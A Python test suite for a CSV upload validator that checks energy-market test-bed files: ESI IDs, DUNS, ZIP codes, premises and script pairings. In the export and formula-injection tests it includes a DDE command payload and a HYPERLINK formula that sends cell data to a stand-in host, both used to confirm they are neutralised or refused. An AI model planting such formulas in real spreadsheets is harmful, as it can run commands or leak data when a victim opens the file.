"""Test-bed files (guide §6.3): the template, and every way an uploaded CSV is refused or accepted."""

import csv
import io
import random
import time
from pathlib import Path

import openpyxl
import pytest

from flightrak.testbed.v1 import testbed_pb2 as pb
from services.testbed import catalog
from services.testbed import test_bed_file as tbf
from services.testbed.test_bed_file import (
    CR_DUNS,
    CUSTOMER_NAME_1,
    CYCLE,
    ESI_ID,
    METER_NUMBER,
    PREMISE,
    RATE_CLASS,
    REQUIRED_COLUMNS,
    SCRIPT_ID,
    SERV_LOC,
    TEMPLATE_COLUMNS,
    ZIP_CODE,
    RowProblem,
    safe_cell,
    size_problem,
    template_csv,
    template_rows,
    template_xlsx,
    validate,
)

CORPUS = Path(__file__).parent / "test_bed_corpus"
ONCOR = 17
CENTERPOINT = 22
CR_A = "123456789"
CR_B = "9876543210001"
PAIRS = dict.fromkeys([(CR_A, "CON02"), (CR_A, "CON03"), (CR_B, "CON02")], ("",))  # each on one premise
MOVE = tbf.Pairing(CR_A, "Lone Star Energy", "MVO-MVI01", ("Move-out premise", "Move-in premise"))
WITH_MOVE = PAIRS | {(MOVE.cr_duns, MOVE.script_id): MOVE.premises}
PAIRINGS = [
    (CR_A, "Lone Star Energy", "CON02"),
    (CR_A, "Lone Star Energy", "CON03"),
    (CR_B, "Bluebonnet Power", "CON02"),
]


def esi_id(n: int, length: int = ONCOR) -> str:
    return "10" + f"{n:0{length - 2}d}"


def good_row(n: int, duns: str = CR_A, script_id: str = "CON02", length: int = ONCOR, **values: str) -> dict:
    row = dict.fromkeys(TEMPLATE_COLUMNS, "")
    row.update(
        {
            CR_DUNS: duns,
            SCRIPT_ID: script_id,
            PREMISE: "1",
            ESI_ID: esi_id(n, length),
            ZIP_CODE: "75201",
            METER_NUMBER: f"M{n}",
            RATE_CLASS: "Residential",
            CYCLE: "05",
        }
    )
    row.update({column.replace("_", " "): value for column, value in values.items()})
    return row


def as_csv(rows: list[dict], header=TEMPLATE_COLUMNS, bom: bool = False, line_end: str = "\r\n") -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator=line_end)
    writer.writerow(header)
    writer.writerows([row.get(column, "") for column in header] for row in rows)
    return out.getvalue().encode("utf-8-sig" if bom else "utf-8")


def covering_rows() -> list[dict]:
    return [good_row(1, CR_A, "CON02"), good_row(2, CR_A, "CON03"), good_row(3, CR_B, "CON02")]


def problems_at(result, row: int) -> list[RowProblem]:
    return [p for p in result.problems if p.row == row]


# --- the template --------------------------------------------------------------------------------


def test_required_columns_are_template_columns_in_order():
    assert set(REQUIRED_COLUMNS) <= set(TEMPLATE_COLUMNS)
    assert [c for c in TEMPLATE_COLUMNS if c in REQUIRED_COLUMNS] == list(REQUIRED_COLUMNS)
    assert TEMPLATE_COLUMNS[0] == CR_DUNS and TEMPLATE_COLUMNS[-1] == CYCLE


def test_template_rows_prefill_duns_and_script_once_per_pairing():
    rows = template_rows([*PAIRINGS, PAIRINGS[0]])
    assert [(r[CR_DUNS], r[SCRIPT_ID]) for r in rows] == [(CR_B, "CON02"), (CR_A, "CON02"), (CR_A, "CON03")]
    assert all(list(r) == list(TEMPLATE_COLUMNS) for r in rows)
    assert all(r[ESI_ID] == "" and r[CYCLE] == "" for r in rows)
    assert {r[PREMISE] for r in rows} == {"1"}  # a script on one premise: one row, premise 1


def test_template_gives_a_script_on_two_premises_a_row_each_labelled_with_its_number_and_name():
    pairings = [PAIRINGS[0], MOVE, tbf.Pairing(CR_A, "Lone Star Energy", "TWO", ("", ""))]
    rows = template_rows(pairings)
    assert [(r[CR_DUNS], r[SCRIPT_ID], r[PREMISE]) for r in rows] == [
        (CR_A, "CON02", "1"),
        (CR_A, MOVE.script_id, "1: Move-out premise"),
        (CR_A, MOVE.script_id, "2: Move-in premise"),
        (CR_A, "TWO", "1"),
        (CR_A, "TWO", "2"),
    ]
    book = openpyxl.load_workbook(io.BytesIO(template_xlsx(pairings)))
    assert [r[2] for r in book["Test Bed"].values][1:] == [r[PREMISE] for r in rows]
    assert [r[2] for r in book["Pairings"].values][1:] == ["CON02", MOVE.script_id, "TWO"]  # a pairing once
    assert tbf.expected_of(pairings) == {
        (CR_A, "CON02"): ("",),
        (CR_A, MOVE.script_id): MOVE.premises,
        (CR_A, "TWO"): ("", ""),
    }


def test_filled_csv_template_validates():
    content = template_csv(PAIRINGS)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    for n, row in enumerate(rows, start=1):
        row.update({ESI_ID: esi_id(n), ZIP_CODE: "75201", METER_NUMBER: f"M{n}", RATE_CLASS: "IDR", CYCLE: "3"})
    result = validate(as_csv(rows, bom=True), ONCOR, PAIRS)
    assert result.ok, result.problems
    assert [(r[CR_DUNS], r[SCRIPT_ID], r[CYCLE]) for r in result.rows] == [
        (CR_B, "CON02", "03"),
        (CR_A, "CON02", "03"),
        (CR_A, "CON03", "03"),
    ]


def test_unfilled_template_names_every_empty_required_cell():
    result = validate(template_csv(PAIRINGS), ONCOR, PAIRS)
    assert not result.ok and result.rows == []
    assert {(p.row, p.column) for p in result.problems} == {
        (row, column) for row in (2, 3, 4) for column in (ESI_ID, ZIP_CODE, METER_NUMBER, RATE_CLASS, CYCLE)
    }
    assert all(p.message == "is required" for p in result.problems)


def test_xlsx_template_is_text_formatted_names_crs_and_round_trips_through_save_as_csv():
    book = openpyxl.load_workbook(io.BytesIO(template_xlsx([*PAIRINGS, (CR_B, "=cmd|' /C calc'!A0", "CON05")])))
    assert book.sheetnames == ["Test Bed", "Pairings"]
    sheet = book["Test Bed"]
    assert [c.value for c in sheet[1]] == list(TEMPLATE_COLUMNS)
    assert all(sheet.cell(row=2, column=i).number_format == "@" for i in range(1, len(TEMPLATE_COLUMNS) + 1))
    pairings = list(book["Pairings"].values)
    assert pairings[0] == (CR_DUNS, "CR Name", SCRIPT_ID)
    evil = [p for p in pairings if p[2] == "CON05"][0]
    assert evil[1].startswith("'=")  # shown as text, never a formula
    assert all(cell.data_type == "s" for row in book["Pairings"].iter_rows() for cell in row)

    # The TDSP fills the sheet and Excel saves it as CSV UTF-8.
    header = [c.value for c in sheet[1]]
    for n, row in enumerate(sheet.iter_rows(min_row=2), start=1):
        at = {column: cell for column, cell in zip(header, row, strict=True)}
        at[ESI_ID].value, at[ZIP_CODE].value, at[METER_NUMBER].value = esi_id(n), "77002", f"{n}AB"
        at[RATE_CLASS].value, at[CYCLE].value = "Residential", "12"
    out = io.StringIO(newline="")
    csv.writer(out).writerows([["" if v is None else v for v in values] for values in sheet.values])
    result = validate(out.getvalue().encode("utf-8-sig"), ONCOR, PAIRS | {(CR_B, "CON05"): ("",)})
    assert result.ok, result.problems
    assert len(result.rows) == 4


# --- good files ------------------------------------------------------------------------------------


def test_good_file_is_accepted_with_rows_cleaned():
    rows = covering_rows()
    rows[0].update({ESI_ID: f"  {rows[0][ESI_ID]} ", CYCLE: "1", ZIP_CODE: "752014410", CUSTOMER_NAME_1: " José "})
    rows[1].update({CUSTOMER_NAME_1: "Smith, John", SERV_LOC: 'Lot "B"', CYCLE: "21"})
    result = validate(as_csv(rows), ONCOR, PAIRS)
    assert result.ok and result.problems == [] and result.more_problems == 0 and result.missing_pairs == []
    first, second, _ = result.rows
    assert list(first) == list(TEMPLATE_COLUMNS)
    assert first[ESI_ID] == esi_id(1) and first[CYCLE] == "01" and first[ZIP_CODE] == "75201-4410"
    assert first[CUSTOMER_NAME_1] == "José"
    assert second[CUSTOMER_NAME_1] == "Smith, John" and second[SERV_LOC] == 'Lot "B"' and second[CYCLE] == "21"


def test_excel_bom_and_windows_line_ends_are_accepted():
    result = validate((CORPUS / "excel_utf8_bom_crlf.csv").read_bytes(), ONCOR, PAIRS)
    assert result.ok, result.problems
    assert [r[CUSTOMER_NAME_1] for r in result.rows] == ["José Ramírez", "Smith, John", "Acme Feed & Seed"]
    assert [r[CYCLE] for r in result.rows] == ["01", "07", "21"]
    assert not any(key.startswith("\ufeff") for key in result.rows[0])


@pytest.mark.parametrize("line_end", ["\r\n", "\n", "\r"])
def test_any_line_end_is_accepted(line_end):
    result = validate(as_csv(covering_rows(), bom=True, line_end=line_end), ONCOR, PAIRS)
    assert result.ok, result.problems
    assert len(result.rows) == 3


def test_columns_in_any_order_and_optional_columns_left_out():
    header = [CYCLE, " esi  id ", "cr duns", SCRIPT_ID, RATE_CLASS, METER_NUMBER, ZIP_CODE, CUSTOMER_NAME_1]
    rows = [{**r, " esi  id ": r[ESI_ID], "cr duns": r[CR_DUNS]} for r in covering_rows()]
    result = validate(as_csv(rows, header=header), ONCOR, PAIRS)
    assert result.ok, result.problems
    assert list(result.rows[0]) == list(TEMPLATE_COLUMNS)
    assert result.rows[0][ESI_ID] == esi_id(1) and result.rows[0][SERV_LOC] == ""


def test_centerpoint_esi_ids_have_22_digits():
    rows = [good_row(1, length=CENTERPOINT), good_row(2, length=ONCOR)]
    result = validate(as_csv(rows), CENTERPOINT)
    assert [(p.row, p.column) for p in result.problems] == [(3, ESI_ID)]
    assert "has 17 digits; this TDSP's ESI IDs have 22" in result.problems[0].message


def test_empty_rows_are_skipped_and_a_pairing_may_have_several_rows():
    rows = [*covering_rows(), dict.fromkeys(TEMPLATE_COLUMNS, ""), good_row(4, CR_A, "CON02")]
    result = validate(as_csv(rows) + b",,,,,,,,,,,,,,\r\n\r\n", ONCOR, PAIRS)
    assert result.ok, result.problems
    assert len(result.rows) == 4


# --- whole-file refusals -----------------------------------------------------------------------


@pytest.mark.parametrize("content", [b"", b"  \r\n\r\n", b"\xef\xbb\xbf", b",,,\r\n,,\r\n"])
def test_empty_file(content):
    result = validate(content, ONCOR)
    assert result.problems == [RowProblem(0, "", "the file is empty")]


def test_header_without_rows():
    result = validate(as_csv([]), ONCOR)
    assert [p.message for p in result.problems] == ["the file has the header but no test-bed rows"]


def test_50_mb_file_is_refused_by_its_size_at_once():
    row = as_csv([good_row(1)]).split(b"\r\n")[1] + b"\r\n"
    content = as_csv([]) + row * (50 * 1024 * 1024 // len(row) + 1)
    started = time.perf_counter()
    result = validate(content, ONCOR)
    assert time.perf_counter() - started < 0.05
    assert [p.message for p in result.problems] == ["the file is 50.0 MB; a test bed may be at most 10.0 MB"]
    assert size_problem(50 * 1024 * 1024) == result.problems[0]  # an upload handler asks before reading
    assert size_problem(tbf.MAX_BYTES) is None


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "a PNG image"),
        (template_xlsx(PAIRINGS), "an Excel workbook (.xlsx)"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "an old Excel workbook (.xls)"),
        (b"%PDF-1.7\n", "a PDF document"),
        ("CR DUNS\tScript ID\r\n".encode("utf-16"), "Unicode Text (UTF-16)"),
        (b"CR DUNS,Script ID\r\n\x00\x01\x02", "binary"),
    ],
)
def test_a_file_that_is_not_csv_is_named_and_refused(content, kind):
    (problem,) = validate(content, ONCOR).problems
    assert problem.row == 0 and kind in problem.message and "CSV UTF-8" in problem.message


def test_a_file_that_is_not_utf8_names_its_line():
    content = as_csv(covering_rows()).replace(b"M2", "Mü2".encode("cp1252"))
    (problem,) = validate(content, ONCOR).problems
    assert "not UTF-8" in problem.message and "line 3" in problem.message


def test_semicolon_separated_file_is_explained():
    content = ";".join(TEMPLATE_COLUMNS).encode() + b"\r\n1;2\r\n"
    (problem,) = validate(content, ONCOR).problems
    assert problem.row == 1 and "separated by ';'" in problem.message


def test_data_without_the_header_row_is_explained():
    content = as_csv(covering_rows()).split(b"\r\n", 1)[1]
    (problem,) = validate(content, ONCOR).problems
    assert problem.row == 1 and "keep the template's header row" in problem.message


# --- the header --------------------------------------------------------------------------------


def test_missing_and_unknown_columns_are_named():
    header = [c for c in TEMPLATE_COLUMNS if c not in (ESI_ID, CYCLE, METER_NUMBER)] + ["Meter Number", "Notes"]
    rows = [{**r, "Meter Number": r[METER_NUMBER]} for r in covering_rows()]
    result = validate(as_csv(rows, header=header), ONCOR, PAIRS)
    assert not result.ok and result.rows == []
    header_problems = {p.column: p.message for p in problems_at(result, 1)}
    assert header_problems[ESI_ID] == "the header has no 'ESI ID' column; it is required"
    assert header_problems[CYCLE] == "the header has no 'Cycle' column; it is required"
    assert header_problems["Meter Number"] == "unknown column 'Meter Number' (column N); did you mean 'Meter #'?"
    assert "unknown column 'Notes' (column O); the columns are: CR DUNS" in header_problems["Notes"]
    assert result.missing_pairs == []  # the rows are still read, and cover their pairings


def test_a_column_twice_is_refused():
    header = [*TEMPLATE_COLUMNS, "esi id"]
    result = validate(as_csv(covering_rows(), header=header), ONCOR)
    assert [(p.row, p.column, p.message) for p in result.problems] == [
        (1, ESI_ID, "appears twice in the header (columns F and Q)")
    ]


def test_values_outside_the_named_columns_are_refused():
    rows = covering_rows()
    content = as_csv(rows, header=[*TEMPLATE_COLUMNS, ""])
    assert content.count(b"05,\r\n") == 3 and validate(content, ONCOR).ok  # Excel's trailing empty column
    result = validate(content.replace(b"05,\r\n", b"05,stray\r\n", 1), ONCOR)
    assert [(p.row, p.message) for p in result.problems] == [
        (2, "has a value in column Q, which has no name in the header"),
    ]
    content = as_csv(rows).replace(b"05\r\n", b"05,,stray\r\n", 1)
    assert [(p.row, p.message) for p in validate(content, ONCOR).problems] == [
        (2, "has a value in column R, past the last column of the header")
    ]


# --- cells -----------------------------------------------------------------------------------------


def test_oncor_esi_id_of_21_digits_is_refused():
    result = validate((CORPUS / "oncor_bad_rows.csv").read_bytes(), ONCOR)
    assert RowProblem(2, ESI_ID, "104437200044773019999 has 21 digits; this TDSP's ESI IDs have 17") in result.problems


def test_corpus_file_with_bad_rows_names_every_one():
    result = validate((CORPUS / "oncor_bad_rows.csv").read_bytes(), ONCOR)
    assert [(p.row, p.column) for p in result.problems] == [
        (2, ESI_ID),
        (4, ZIP_CODE),
        (4, CUSTOMER_NAME_1),
        (4, ESI_ID),
        (5, METER_NUMBER),
        (5, SERV_LOC),
        (5, CYCLE),
    ]
    assert result.rows == []


def test_duplicate_esi_id_names_both_rows_even_far_apart():
    rows = [good_row(n) for n in range(1, 1201)]
    rows[1100][ESI_ID] = rows[3][ESI_ID]
    rows[1101][ESI_ID] = rows[3][ESI_ID]
    result = validate(as_csv(rows), ONCOR)
    assert [(p.row, p.column, p.message) for p in result.problems] == [
        (1102, ESI_ID, f"{esi_id(4)} is also on row 5; each ESI ID may be used once"),
        (1103, ESI_ID, f"{esi_id(4)} is also on row 5; each ESI ID may be used once"),
    ]


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("1044372000447730", "1044372000447730 has 16 digits; this TDSP's ESI IDs have 17"),
        ("20443720004477301", "20443720004477301 must start with 10"),
        ("1044372000447730A", "'1044372000447730A' must be digits only"),
        ("1.04437E+16", "'1.04437E+16' must be digits only; Excel changed it into a number"),
        ("１０443720004477301", "must be digits only"),  # full-width digits are not ASCII digits
        ("", "is required"),
    ],
)
def test_bad_esi_ids(value, message):
    rows = covering_rows()
    rows[1][ESI_ID] = value
    (problem,) = validate(as_csv(rows), ONCOR).problems
    assert (problem.row, problem.column) == (3, ESI_ID) and message in problem.message


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        (CR_DUNS, "12345678", "must be 9 digits (DUNS) or 13 digits (DUNS+4); Excel changed it"),
        (CR_DUNS, "12345678901", "must be 9 digits (DUNS) or 13 digits (DUNS+4)"),
        (SCRIPT_ID, "CON 02", "must be a script ID such as CON02"),
        (ZIP_CODE, "7520", "must be a 5-digit ZIP code or ZIP+4"),
        (ZIP_CODE, "75201-44", "must be a 5-digit ZIP code or ZIP+4"),
        (METER_NUMBER, "M#12", "must be letters, digits and '-'"),
        (METER_NUMBER, "M" * 31, "at most 30 characters"),
        (RATE_CLASS, "R" * 41, "is 41 characters long; at most 40"),
        (CUSTOMER_NAME_1, "N" * 81, "is 81 characters long; at most 80"),
        (CYCLE, "0", "must be a meter read cycle from 01 to 21"),
        (CYCLE, "22", "must be a meter read cycle from 01 to 21"),
        (CYCLE, "001", "must be a meter read cycle from 01 to 21"),
        (CUSTOMER_NAME_1, "two\nlines", "must be on one line"),
        (SERV_LOC, "a\tb", "must be on one line"),
        (SERV_LOC, "a\x1fb", "must be on one line"),
    ],
)
def test_bad_cells(column, value, message):
    rows = covering_rows()
    rows[2][column] = value
    (problem,) = validate(as_csv(rows), ONCOR).problems
    assert (problem.row, problem.column) == (4, column) and message in problem.message


@pytest.mark.parametrize(
    ("column", "value"),
    [
        (CUSTOMER_NAME_1, '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
        (METER_NUMBER, "+1"),
        (SERV_LOC, "@SUM(A1:A9)"),
        ("DOE #", "-2+3"),
        (RATE_CLASS, "  =1+1"),
        (SERV_LOC, "\t=1+1"),
        (SERV_LOC, "\r=1+1"),
        (ESI_ID, "=10443720004477301"),
    ],
)
def test_formula_injection_is_refused_without_echoing_the_cell(column, value):
    rows = covering_rows()
    rows[0][column] = value
    result = validate(as_csv(rows), ONCOR)
    (problem,) = result.problems
    assert (problem.row, problem.column) == (2, column)
    assert "formula" in problem.message and value.strip() not in problem.message
    assert result.rows == []


def test_safe_cell_neutralizes_formulas_on_export():
    assert safe_cell('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert [safe_cell(v) for v in ("+1", "-1", "@SUM(A1)", "\t1", "\r1")] == ["'+1", "'-1", "'@SUM(A1)", "'\t1", "'\r1"]
    assert [safe_cell(v) for v in ("10443720004477301", "José", "", None, 7)] == [
        "10443720004477301",
        "José",
        "",
        "",
        "7",
    ]


# --- pairings ------------------------------------------------------------------------------------


def test_rows_must_be_expected_pairings_and_every_pairing_covered():
    rows = [good_row(1, CR_A, "CON02"), good_row(2, CR_A, "CON99"), good_row(3, "111111111", "CON02")]
    result = validate(as_csv(rows), ONCOR, PAIRS)
    assert [(p.row, p.column, p.message) for p in result.problems] == [
        (3, SCRIPT_ID, f"script CON99 is not one of the scripts CR {CR_A} runs with you"),
        (4, CR_DUNS, "CR 111111111 is not paired with you in this flight"),
        (0, SCRIPT_ID, f"no row for CR {CR_A}, script CON03"),
        (0, SCRIPT_ID, f"no row for CR {CR_B}, script CON02"),
    ]
    assert result.missing_pairs == [(CR_A, "CON03"), (CR_B, "CON02")]
    assert str(result.problems[-1]) == f"File, Script ID: no row for CR {CR_B}, script CON02"
    assert str(result.problems[0]).startswith("Row 3, Script ID: script CON99")


def test_a_pairing_whose_row_has_another_problem_is_not_reported_missing():
    rows = covering_rows()
    rows[0][ZIP_CODE] = "x"
    result = validate(as_csv(rows), ONCOR, PAIRS)
    assert [(p.row, p.column) for p in result.problems] == [(2, ZIP_CODE)]


# --- premises --------------------------------------------------------------------------------------


def move_rows(*premises: str) -> list[dict]:
    """The covering rows and one row per Premise cell given for the move-out-and-move-in script."""
    return covering_rows() + [good_row(10 + n, CR_A, MOVE.script_id, Premise=p) for n, p in enumerate(premises)]


def test_a_script_on_two_premises_with_a_row_for_each_is_accepted_in_the_templates_words_or_plain():
    for labels in (("1: Move-out premise", "2: Move-in premise"), ("2", "1"), ("", "02")):
        result = validate(as_csv(move_rows(*labels)), ONCOR, WITH_MOVE)
        assert result.ok, (labels, result.problems)
        assert [r[PREMISE] for r in result.rows if r[SCRIPT_ID] == MOVE.script_id] == [
            str(int(label.split(":")[0] or "1")) for label in labels
        ]


def test_a_script_on_two_premises_with_one_is_refused_naming_its_row_the_script_and_the_missing_premise():
    result = validate(as_csv(move_rows("1: Move-out premise")), ONCOR, WITH_MOVE)
    assert not result.ok and result.rows == [] and result.missing_pairs == []
    assert [str(p) for p in result.problems] == [
        f"Row 5, Premise: script MVO-MVI01 needs 2 premises for CR {CR_A}, and no row gives premise 2 "
        "(Move-in premise): add a row for it with 2 in its Premise column"
    ]
    # Two rows that are both the move-out premise give no move-in premise either.
    (problem,) = validate(as_csv(move_rows("1", "")), ONCOR, WITH_MOVE).problems
    assert (problem.row, problem.column) == (5, PREMISE) and "premise 2 (Move-in premise)" in problem.message
    (problem,) = validate(as_csv(move_rows("2")), ONCOR, WITH_MOVE).problems
    assert (problem.row, problem.column) == (5, PREMISE) and "premise 1 (Move-out premise)" in problem.message


def test_a_file_without_the_premise_column_is_read_as_premise_1_everywhere():
    header = [c for c in TEMPLATE_COLUMNS if c != PREMISE]
    assert validate(as_csv(covering_rows(), header=header), ONCOR, PAIRS).ok  # scripts on one premise, as before
    assert [r[PREMISE] for r in validate(as_csv(covering_rows(), header=header), ONCOR, PAIRS).rows] == ["1"] * 3
    (problem,) = validate(as_csv(move_rows("", ""), header=header), ONCOR, WITH_MOVE).problems
    assert (problem.row, problem.column) == (5, PREMISE) and "no row gives premise 2" in problem.message


def test_a_premise_the_script_does_not_need_is_refused_at_its_row():
    result = validate(as_csv(move_rows("1", "2", "3")), ONCOR, WITH_MOVE)
    assert [str(p) for p in result.problems] == [
        "Row 7, Premise: script MVO-MVI01 needs 2 premises (1: Move-out premise, 2: Move-in premise); "
        "there is no premise 3"
    ]
    rows = covering_rows()
    rows[0][PREMISE] = "2"
    assert [str(p) for p in validate(as_csv(rows), ONCOR, PAIRS).problems] == [
        "Row 2, Premise: script CON02 runs on one premise: leave Premise empty or 1, not 2",
        f"File, Script ID: no row for CR {CR_A}, script CON02",
    ]


@pytest.mark.parametrize("value", ["0", "x", "one", "1 of 2", "1.5", "100"])
def test_a_premise_is_a_number_from_1(value):
    rows = covering_rows()
    rows[1][PREMISE] = value
    problems = validate(as_csv(rows), ONCOR).problems
    assert (problems[0].row, problems[0].column) == (3, PREMISE)
    assert "must be the premise's number, 1 or more, as the template gives it" in problems[0].message


def test_a_premise_may_have_spare_rows_as_a_script_on_one_premise_may():
    rows = [*covering_rows(), good_row(20, CR_A, "CON02"), good_row(21, CR_A, "CON02", Premise="")]
    assert validate(as_csv(rows), ONCOR, PAIRS).ok
    assert validate(as_csv(move_rows("1", "2", "2")), ONCOR, WITH_MOVE).ok


@pytest.mark.parametrize("seed", range(12))
def test_quick_paths_agree_with_the_rule_on_premises(seed, monkeypatch):
    rng = random.Random(seed)
    labels = ["1", "2", "3", "", "1: Move-out premise", "2: Move-in premise", "0", "x"]
    rows = [good_row(n, *rng.choice([*PAIRINGS, MOVE])[::2]) for n in range(1, rng.choice([40, 1300]))]
    for row in rows:
        if row[SCRIPT_ID] == MOVE.script_id or rng.random() < 0.01:
            row[PREMISE] = rng.choice(labels) if rng.random() < 0.3 else rng.choice(["1", "2"])
    content = as_csv(rows)
    for expected in (WITH_MOVE, None):
        assert_same(validate(content, ONCOR, expected), by_the_rule(monkeypatch, content, expected))


# --- many problems -------------------------------------------------------------------------------


def test_problems_are_capped_with_a_count_of_the_rest():
    rows = [good_row(n, **{"Zip Code": "bad"}) for n in range(1, 1501)]
    result = validate(as_csv(rows), ONCOR)
    assert len(result.problems) == tbf.MAX_PROBLEMS and result.more_problems == 500
    assert result.problems[-1].row == 1001
    small = validate(as_csv(rows), ONCOR, max_problems=10)
    assert len(small.problems) == 10 and small.more_problems == 1490


def test_cell_too_large_for_csv_is_refused():
    content = as_csv(covering_rows()) + b'"' + b"x" * 200_000 + b'"\r\n'
    (problem,) = validate(content, ONCOR, max_bytes=1024 * 1024).problems
    assert problem.row == 0 and "cannot be read as CSV" in problem.message


# --- the quick paths follow the rule ----------------------------------------------------------


NASTY = [
    " ",
    "  75201 ",
    "=1",
    "+1",
    "-1",
    "@A",
    "\t1",
    "x\t",
    "a\nb",
    "a\rb",
    "\x1f",
    "\x7f",
    "\xa0x",
    "x\u2028",
    "x" * 81,
    "José",
    "Smith, John",
    'say "hi"',
    '"quoted"',
    "1",
    "21",
    "22",
    "0",
    "01",
    "752014410",
    "7520",
    "75201-4410",
    "ESIID1",
    "1044372000447730",
    "10443720004477301",
    "104437200044773011",
    "CON02",
    "con02",
    "CON 02",
    "AB-12",
    "",
]


def random_file(rng: random.Random, rows: int, bad_rate: float, controls: bool) -> bytes:
    out = []
    for n in range(1, rows + 1):
        duns, _, script_id = rng.choice(PAIRINGS)
        duplicate = bad_rate and rng.random() < 0.01
        row = good_row(rng.randrange(1, rows * 2) if duplicate else n, duns, script_id)
        if rng.random() < 0.3:
            row[CUSTOMER_NAME_1] = rng.choice(["José Ramírez", "Smith, John", 'Lot "B"', "Ann"])
        if rng.random() < bad_rate:
            for _ in range(rng.randrange(1, 3)):
                value = rng.choice([v for v in NASTY if controls or not any(ord(c) < 32 or c == "\x7f" for c in v)])
                row[rng.choice(TEMPLATE_COLUMNS)] = value
        out.append(row)
    return as_csv(out, line_end=rng.choice(["\r\n", "\n"]))


def by_the_rule(monkeypatch, content: bytes, expected) -> tbf.TestBedResult:
    """What validate() finds with its quick paths switched off: every row checked cell by cell."""
    with monkeypatch.context() as patched:
        patched.setattr(tbf._Rows, "keep_good_chunk", lambda self, first_row, chunk: False)
        patched.setattr(tbf._Rows, "check_row", lambda self, row, cells: self.check_cells(row, cells))
        result = validate(content, ONCOR, expected)
        result.rows  # noqa: B018 - built while the rule is in force
    return result


def assert_same(quick: tbf.TestBedResult, rule: tbf.TestBedResult) -> None:
    assert quick.problems == rule.problems
    assert (quick.more_problems, quick.missing_pairs) == (rule.more_problems, rule.missing_pairs)
    assert quick.rows == rule.rows


@pytest.mark.parametrize("seed", range(24))
def test_quick_paths_agree_with_the_cell_by_cell_rule(seed, monkeypatch):
    rng = random.Random(seed)
    content = random_file(rng, rng.choice([5, 600, 1300]), rng.choice([0.0, 0.002, 0.05]), controls=seed % 3 == 0)
    expected = PAIRS if seed % 2 else None
    assert_same(validate(content, ONCOR, expected), by_the_rule(monkeypatch, content, expected))


@pytest.mark.parametrize("column", TEMPLATE_COLUMNS)
def test_every_awkward_value_in_every_column_is_judged_as_the_rule_judges_it(column, monkeypatch):
    for value in NASTY:
        rows = [good_row(n) for n in range(1, 21)]
        rows[7][column] = value
        content = as_csv(rows)
        assert_same(validate(content, ONCOR), by_the_rule(monkeypatch, content, None))


def test_row_values_in_template_order():
    assert tbf._row(list(TEMPLATE_COLUMNS)) == {c: c for c in TEMPLATE_COLUMNS}


def test_kept_cells_are_clean_and_in_the_file_order():
    header = [ESI_ID, CR_DUNS, SCRIPT_ID, ZIP_CODE, METER_NUMBER, RATE_CLASS, CYCLE, ""]
    lines = [",".join(header)] + [f"{esi_id(n)},{CR_A},SC001,75201,M{n},IDR,{n}," for n in (1, 2)]
    result = validate("\r\n".join(lines).encode(), 17)
    assert result.ok and result.row_count == 2
    assert result.file_columns == (*header[:-1], None)
    rows = [row.split(tbf.CELL_SEPARATOR) for row in result.rows_text().split(tbf.ROW_SEPARATOR)]
    assert rows == [
        [esi_id(1), CR_A, "SC001", "75201", "M1", "IDR", "01", ""],
        [esi_id(2), CR_A, "SC001", "75201", "M2", "IDR", "02", ""],
    ]


def test_the_testbed_takes_premise_names_only_one_per_premise():
    def told(premises: int, *names: str) -> dict[str, str]:
        script = pb.TestBedScript(
            script_id="MVO-MVI01",
            title="Move",
            premises=premises,
            premise_names=names,
            runs_for=["new_cr"],
            tdsp_types=["iou"],
        )
        return catalog.test_bed_script_problems(
            pb.SetTestBedScriptsRequest(flight="0625", pack_version=1, scripts=[script])
        )

    assert told(2) == {} and told(2, "Move-out premise", "Move-in premise") == {}
    for wrong in (told(2, "Move-out premise"), told(1, "A", "B"), told(2, "A", "a"), told(1, "x" * 41)):
        assert list(wrong) == ["scripts.0.premise_names"]
    assert catalog.premise_labels(2, []) == ("", "") and catalog.premise_labels(2, ["A", "B"]) == ("A", "B")
